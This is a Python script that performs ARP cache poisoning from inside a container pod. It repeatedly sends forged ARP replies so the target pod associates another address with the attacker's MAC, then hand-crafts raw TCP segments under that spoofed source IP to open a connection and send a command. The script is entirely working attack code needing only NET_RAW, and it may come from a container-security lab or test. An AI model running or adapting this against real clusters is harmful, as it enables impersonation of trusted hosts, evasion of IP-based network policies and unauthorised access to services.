#!/usr/bin/env python3
"""Speaks TCP as another address of the bridge, whose neighbour entry in the other pod it poisons. Needs NET_RAW alone."""
import random
import select
import socket
import struct
import sys
import threading
import time


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Link:
    def __init__(self):
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.sock.bind(("eth0", 3))
        self.mac = self.sock.getsockname()[4]

    def arp(self, kind, sender, target, target_mac, to):
        self.sock.send(to + self.mac + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x800, 6, 4, kind)
                       + self.mac + socket.inet_aton(sender) + target_mac + socket.inet_aton(target))

    def packets(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if select.select([self.sock], [], [], 0.1)[0]:
                frame, address = self.sock.recvfrom(65535)
                if address[2] != socket.PACKET_OUTGOING:
                    yield frame
            else:
                yield b""

    def resolve(self, own, address):
        for _ in range(20):
            self.arp(1, own, address, b"\0" * 6, b"\xff" * 6)
            for frame in self.packets(0.3):
                if frame[12:14] == b"\x08\x06" and frame[28:32] == socket.inet_aton(address):
                    return frame[22:28]
        sys.exit(f"{address} does not answer ARP")

    def tcp(self, to_mac, source, source_port, to, port, seq, ack, flags, data=b""):
        ends = socket.inet_aton(source) + socket.inet_aton(to)
        def segment(check):
            return struct.pack("!HHIIBBHHH", source_port, port, seq, ack, 5 << 4, flags, 65000, check, 0) + data
        length = 20 + len(data)
        check = checksum(ends + struct.pack("!BBH", 0, 6, length) + segment(0))
        def header(check):
            return struct.pack("!BBHHHBBH", 0x45, 0, 20 + length, random.randrange(1 << 16), 0x4000, 64, 6, check)
        head = header(0) + ends
        head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
        self.sock.send(to_mac + self.mac + b"\x08\x00" + head + segment(check))


def main(own, source, to, port):
    link, port = Link(), int(port)
    mac = link.resolve(own, to)

    def poison():
        while True:
            link.arp(2, source, to, mac, mac)
            time.sleep(0.1)

    threading.Thread(target=poison, daemon=True).start()
    time.sleep(0.5)
    own_port, first = random.randrange(40000, 60000), random.randrange(1 << 31)
    link.tcp(mac, source, own_port, to, port, first, 0, 0x02)
    got, established = b"", False
    for frame in link.packets(5):
        if frame[12:14] != b"\x08\x00" or frame[26:34] != socket.inet_aton(to) + socket.inet_aton(source):
            continue
        segment = frame[14 + (frame[14] & 15) * 4:14 + struct.unpack("!H", frame[16:18])[0]]
        _, to_port, seq, _ = struct.unpack("!HHII", segment[:12])
        if to_port != own_port:
            continue
        payload = segment[(segment[12] >> 4) * 4:]
        if segment[13] & 4:
            break
        if not established and segment[13] & 0x12 == 0x12:
            established = True
            link.tcp(mac, source, own_port, to, port, first + 1, seq + 1, 0x18, b"who\n")
        elif payload:
            got += payload
            break
    print("established", established, "answer", got.decode(errors="replace").strip(), flush=True)


main(*sys.argv[1:])
